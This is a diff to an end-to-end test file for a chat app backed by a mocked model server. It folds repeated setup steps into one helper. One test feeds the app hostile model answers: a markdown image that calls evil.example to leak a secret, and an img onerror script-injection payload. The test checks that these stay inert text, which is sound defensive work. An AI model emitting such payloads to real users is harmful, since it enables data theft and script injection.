@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process'
 import { expect, open, startApp, test } from './app'
-import { ask, connectModel, ended, newQuestion, waitForSample } from './pages'
+import { ask, ended, newQuestion, openWithModel, waitForSample } from './pages'
 
 const QUESTION = 'What does the error code PAY-104 mean?'
 
@@ -10,9 +10,7 @@ test('every way a model server fails ends in one plain line and a quoted answer'
   mistral,
 }) => {
   test.setTimeout(180_000)
-  await open(page, app)
-  await waitForSample(page)
-  await connectModel(page, mistral)
+  await openWithModel(page, app, mistral)
   const faults = [
     { script: { status: 401, body: '{"message":"Unauthorized"}' }, says: /key/i },
     {
@@ -41,9 +39,7 @@ test('an answer cut in its middle keeps its part, says so, and is never served a
   app,
   mistral,
 }) => {
-  await open(page, app)
-  await waitForSample(page)
-  await connectModel(page, mistral)
+  await openWithModel(page, app, mistral)
   mistral.next({
     answer: 'PAY-104 means that the bank refused the card [1]. And then much more text.',
     cut: 'reset',
@@ -65,9 +61,7 @@ test('hostile answers are text: nothing runs, nothing is fetched, nothing opens'
   app,
   mistral,
 }) => {
-  await open(page, app)
-  await waitForSample(page)
-  await connectModel(page, mistral)
+  await openWithModel(page, app, mistral)
   mistral.script({
     answer: [
       'See ![chart](https://evil.example/leak.png?q=secret) and <img src=x onerror="window.hacked=1">',
@@ -94,9 +88,7 @@ test('a reload in the middle of an answer finds it again, still being written', 
   app,
   mistral,
 }) => {
-  await open(page, app)
-  await waitForSample(page)
-  await connectModel(page, mistral)
+  await openWithModel(page, app, mistral)
   mistral.script({
     answer: `First words. ${'More words follow here. '.repeat(60)}The very end.`,
     chunkDelayMs: 60,
